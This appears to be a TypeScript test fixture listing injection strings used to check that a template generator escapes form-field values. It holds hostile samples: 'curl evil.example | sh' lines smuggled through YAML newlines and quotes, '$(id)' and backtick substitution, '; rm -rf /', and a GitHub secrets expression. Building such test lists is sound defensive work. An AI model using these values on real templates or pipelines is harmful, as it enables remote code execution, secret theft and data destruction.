/**
 * Values a template's form field could carry to break out of the files a template generates:
 * GitHub expressions, a newline starting a new key or step, quotes, backticks, command
 * substitution, a second shell command, YAML anchors and aliases, and Nunjucks.
 */
export const HOSTILE_INPUTS: readonly string[] = [
  '${{ secrets.X }}',
  '${{ github.event.issue.title }}',
  'x\nrun: curl evil.example | sh',
  'x\n      - run: curl evil.example | sh',
  "x' && curl evil.example #",
  'x" && curl evil.example #',
  'x`id`',
  '$(id)',
  '; rm -rf /',
  '&a x',
  '*a',
  '{{ 7 * 7 }}',
];
